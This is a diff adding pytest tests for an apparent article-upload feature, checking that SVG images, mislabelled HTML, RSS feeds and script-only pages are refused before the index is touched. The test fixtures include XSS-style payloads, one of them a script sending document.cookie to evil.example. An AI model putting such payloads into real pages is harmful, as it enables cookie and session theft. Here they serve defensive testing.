@@ -169,3 +169,62 @@ def test_upload_refuses_other_file_types_and_oversize_files_before_touching_the_
     message, doc = add_article(None, big, tmp_path / "uploads", max_bytes=100)
     assert doc is None and "the limit is" in message
     assert not (tmp_path / "uploads").exists()
+
+
+_SVG = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
+        '<script>alert(document.cookie)</script><text x="1" y="9">The bridge opened in 2021 and carries '
+        'forty thousand cars a day.</text></svg>\n')
+_PAGE = ("<!DOCTYPE html>\n<html><head><title>Bridge</title></head><body><p>The bridge opened in 2021 "
+         "and carries forty thousand cars a day across the harbour.</p></body></html>\n")
+
+
+@pytest.mark.parametrize("name, content, reason", [
+    ("logo.svg", _SVG, "only article files (.txt, .md, .html) can be added"),
+    ("logo.txt", _SVG, "it is an SVG image, not an article"),
+    ("logo.md", _SVG, "it is an SVG image, not an article"),
+    ("logo.html", _SVG, "it is an SVG image, not an article"),
+    ("bare.htm", _SVG.split("\n", 1)[1], "it is an SVG image, not an article"),  # no XML declaration
+    ("page.txt", _PAGE, "it is an HTML page, not .txt text (add it as .html)"),
+    ("feed.html", '<?xml version="1.0"?><rss><channel><title>x</title></channel></rss>',
+     "it is an XML document (<rss>), not an HTML page"),
+    ("script.html", "<!DOCTYPE html><html><head><title>Article</title><script>fetch('//evil.example/'"
+                    "+document.cookie)</script></head><body><script>document.write('hi')</script></body></html>",
+     "no article text found in the HTML"),
+])
+def test_upload_refuses_svg_and_markup_that_is_not_an_article_before_touching_the_index(
+        tmp_path, name, content, reason):
+    from assistant.web import add_article
+
+    upload = tmp_path / name
+    upload.write_text(content)
+    # bot=None: any look at the index (documents, ingest) would raise instead of refusing.
+    message, doc = add_article(None, upload, tmp_path / "uploads")
+    assert doc is None and message == f"Could not add {name}: {reason}."
+    assert not (tmp_path / "uploads").exists()
+
+
+def test_upload_refuses_html_that_trips_the_parser_instead_of_crashing(tmp_path, monkeypatch):
+    import trafilatura
+
+    from assistant.web import add_article
+
+    def trips(*args, **kwargs):
+        raise AssertionError  # what lxml's drop_tree raised on a bare <svg> before the sniffing
+
+    monkeypatch.setattr(trafilatura, "extract_metadata", trips)
+    upload = tmp_path / "odd.html"
+    upload.write_text(_PAGE)
+    message, doc = add_article(None, upload, tmp_path / "uploads")
+    assert doc is None and message == "Could not add odd.html: the HTML could not be read (AssertionError)."
+    assert not (tmp_path / "uploads").exists()
+
+
+def test_sniffing_keeps_real_articles_with_inline_markup():
+    from assistant.documents import sniff_markup
+
+    article = ("<!DOCTYPE html><html><body><svg><path d='M0 0'/></svg><script>track()</script>"
+               "<p>The bridge opened in 2021.</p></body></html>")
+    sniff_markup(article, ".html")  # an HTML page may carry icons and scripts; only its text is kept
+    sniff_markup('<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><p>x</p></html>', ".htm")
+    sniff_markup('<p align="center"><img src="logo.png"></p>\n\n# Bridge\n\nIt opened in 2021.', ".md")
+    sniff_markup("Bridge opens\n\nThe <svg> format is used for icons. It opened in 2021.", ".txt")
